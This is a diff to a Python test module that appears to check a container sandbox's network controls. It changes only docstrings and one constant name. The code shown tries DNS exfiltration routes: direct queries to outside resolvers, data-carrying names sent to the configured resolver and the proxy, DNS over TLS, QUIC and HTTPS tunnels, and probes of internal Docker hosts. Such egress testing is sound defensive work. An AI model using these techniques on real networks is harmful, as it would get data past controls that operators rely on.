@@ -1,4 +1,4 @@
-"""DNS: as a way out by itself, past the proxy and through its look-ups. The name server's log has the last word."""
+"""DNS techniques: direct queries, and lookups by the proxy. The name server's log decides."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ import struct
 from collections.abc import Iterator
 from pathlib import Path
 
-from tests.attack.inside.core import PLACES, WALLED, Attack, Try, technique
+from tests.attack.inside.core import ENFORCED, PLACES, Attack, Try, technique
 from tests.attack.inside.talking import PATIENCE, ask, connect, connected, reached, tcp
 
 TYPES = {"A": 1, "NS": 2, "PTR": 12, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}
@@ -17,13 +17,13 @@ DOH = ("dns.google", "cloudflare-dns.com", "dns.quad9.net")
 
 
 def query(name: str, kind: int = 1) -> bytes:
-    """A question (RFC 1035, section 4.1)."""
+    """Return a query (RFC 1035, section 4.1)."""
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
     return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
 
 
 def _answered(answer: bytes) -> str:
-    """Evidence in an answer: records. What a server that refuses was asked, its log says."""
+    """Return evidence from a response with records. Queries that a server refused appear in its log."""
     if len(answer) < 12:
         return ""
     flags, answers = struct.unpack("!2xH2xH4x", answer[:12])
@@ -31,7 +31,7 @@ def _answered(answer: bytes) -> str:
 
 
 def over_udp(server: str, port: int, data: bytes) -> str:
-    """Ask over UDP."""
+    """Query over UDP."""
     with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.settimeout(PATIENCE)
         sock.connect((server, port))
@@ -42,7 +42,7 @@ def over_udp(server: str, port: int, data: bytes) -> str:
 
 
 def over_tcp(server: str, port: int, data: bytes) -> str:
-    """Ask over TCP."""
+    """Query over TCP."""
     with socket.create_connection((server, port), PATIENCE) as sock:
         sock.sendall(struct.pack("!H", len(data)) + data)
         return _answered(sock.recv(4096)[2:]) or "connected"
@@ -50,7 +50,7 @@ def over_tcp(server: str, port: int, data: bytes) -> str:
 
 @technique(PLACES)
 def resolver_of_our_own(attack: Attack) -> Iterator[Try]:
-    """Name servers out there, asked straight over UDP and TCP."""
+    """Query external name servers directly over UDP and TCP."""
     for server in (attack.world.resolver, *RESOLVERS):
         data = query(f"direct.{attack.denied}")
         yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))
@@ -59,7 +59,7 @@ def resolver_of_our_own(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def resolver_that_is_configured(attack: Attack) -> Iterator[Try]:
-    """The container's own name server, Docker's included, asked for names of outside, with data in them."""
+    """Query the container's configured name server, Docker's included, for external names that carry data."""
     servers = []
     with contextlib.suppress(OSError), Path("/etc/resolv.conf").open() as file:
         servers = [line.split()[1] for line in file if line.startswith("nameserver")]
@@ -76,7 +76,7 @@ def resolver_that_is_configured(attack: Attack) -> Iterator[Try]:
 
 @technique()
 def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
-    """A name server that the gateway or a host might run."""
+    """Query name servers that the gateway or a host might run."""
     for server in (attack.world.proxy[0], *attack.world.hosts):
         data = query(f"host.{attack.denied}")
         yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))
@@ -84,7 +84,7 @@ def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def dns_over_tls(attack: Attack) -> Iterator[Try]:
-    """DNS over TLS and over QUIC, at port 853."""
+    """Use DNS over TLS and over QUIC, at port 853."""
     for server in (attack.world.canary, attack.world.resolver, *RESOLVERS):
         yield attack.tries(f"TCP {server}", lambda server=server: over_tcp(server, 853, query(attack.denied)))
         yield attack.tries(f"UDP {server}", lambda server=server: over_udp(server, 853, query(attack.denied)))
@@ -92,7 +92,7 @@ def dns_over_tls(attack: Attack) -> Iterator[Try]:
 
 @technique(("sandbox", "build", "neighbour"))
 def dns_over_https(attack: Attack) -> Iterator[Try]:
-    """Public resolvers over HTTPS through the proxy, by name and by address."""
+    """Use public DNS-over-HTTPS resolvers through the proxy, by name and by address."""
     for host in (*DOH, *RESOLVERS, attack.world.resolver):
         yield attack.tries(f"CONNECT {host}:443", lambda host=host: _tunnel(attack, f"{host}:443"))
         target = f"http://{host}/dns-query?name={attack.denied}"
@@ -105,9 +105,9 @@ def _tunnel(attack: Attack, target: str) -> str:
         return "the tunnel was opened" if connect(sock, target) == 200 else ""
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
-    """Names with data in them, asked of the proxy in every form: it looks up only what its class may reach."""
+    """Request names that carry data through the proxy in every form; it may look up only allowed names."""
     world = attack.world
     forms = (
         "CONNECT {n}:443 HTTP/1.1\r\nHost: {n}:443\r\n\r\n",
@@ -137,11 +137,11 @@ def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
 
 def _asked(attack: Attack, request: bytes) -> str:
     ask(attack.world.proxy, request)
-    return ""  # whether it was looked up, the name server knows
+    return ""  # The name server's log shows whether the proxy looked it up.
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def names_of_containers(attack: Attack) -> Iterator[Try]:
-    """What resolves within Docker, and is a host of ours: the gateway, the proxy, the machine."""
+    """Request names that resolve within Docker: the gateway, the proxy, the machine."""
     for name in ("openclaw-gateway", "openclaw-proxy", "host.docker.internal", "gateway.docker.internal", "vps1"):
         yield attack.tries(name, lambda name=name: tcp(name, 18789))
